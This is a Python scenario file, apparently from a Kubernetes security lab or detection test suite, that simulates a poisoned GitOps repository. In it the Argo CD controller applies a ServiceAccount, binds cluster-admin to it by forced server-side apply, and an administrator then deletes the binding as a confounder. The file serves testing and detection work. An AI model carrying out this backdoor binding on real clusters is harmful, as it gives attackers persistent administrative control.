"""A poisoned repository: the GitOps controller itself applies an account and binds cluster-admin to it."""

from lab.client import APPLY
from lab.manifests import account, binding
from lab.story import Scenario, Stage


def _play(stage: Stage) -> None:
    argo = stage.pod("argocd", "argocd-application-controller")
    name = stage.word("web-metrics", "shop-telemetry")
    body = {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": name, "namespace": "shop"}}
    bound = binding(name, "cluster-admin", [account("shop", name)])
    query = "?fieldManager=argocd-controller&force=true"
    with stage.step("sync an account", argo, "persistence", ("G03",)):
        path = f"/api/v1/namespaces/shop/serviceaccounts/{name}{query}"
        stage.must(argo.send("PATCH", path, body, {"Content-Type": APPLY}))
    with stage.step("sync a binding", argo, "privilege-escalation", ("E01", "E03", "E07", "E16", "J01")):
        path = f"/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/{name}{query}"
        stage.must(argo.send("PATCH", path, bound, {"Content-Type": APPLY}))
    with stage.step("the administrator removes it", "kubernetes-admin", kind="confounder"):
        stage.admin().delete(f"/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/{name}")


SCENARIO = Scenario(
    "gitops-malicious",
    "GitOps applies a back door",
    "attack",
    "let a trusted controller do it",
    ("T1195", "T1098.006"),
    _play,
)
